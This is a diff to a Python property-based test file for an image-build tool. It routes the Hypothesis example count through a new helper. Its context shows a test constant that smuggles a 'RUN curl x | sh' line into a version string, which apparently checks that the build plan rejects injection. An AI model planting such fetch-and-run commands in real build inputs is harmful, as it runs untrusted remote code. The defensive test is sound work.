@@ -13,6 +13,7 @@ from imagekit.buildplan import BuildPlan, bootstrap_base
 from imagekit.errors import ConfigError, UnknownVersionError, UsageError
 from imagekit.lockfile import Lock, LockEntry
 from imagekit.model import Cell
+from tests.props import examples
 
 INJECTION = "4.48.2\nRUN curl x | sh"
 
@@ -109,7 +110,7 @@ text_or_injection = st.one_of(
 
 
 @settings(
-    max_examples=300,
+    max_examples=examples(300),
     deadline=None,
     derandomize=True,  # the same examples on every run: CI on a fresh clone is deterministic
     suppress_health_check=[HealthCheck.function_scoped_fixture],
